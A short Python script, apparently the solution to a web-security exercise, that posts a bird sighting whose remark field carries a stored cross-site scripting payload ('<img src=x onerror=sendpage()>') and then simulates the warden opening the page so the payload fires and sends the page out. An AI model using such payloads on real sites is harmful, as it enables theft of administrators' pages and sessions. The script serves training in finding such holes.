"""A remark that sends the warden's page."""

from target import http, warden_opens

remark = "<img src=x onerror=sendpage()>"
sighting = {"bird": "Robin", "observer": "Anna", "at": "SU 41", "remark": remark, "photo": ""}
http.post("/sightings", data=sighting)
print(warden_opens("/"))
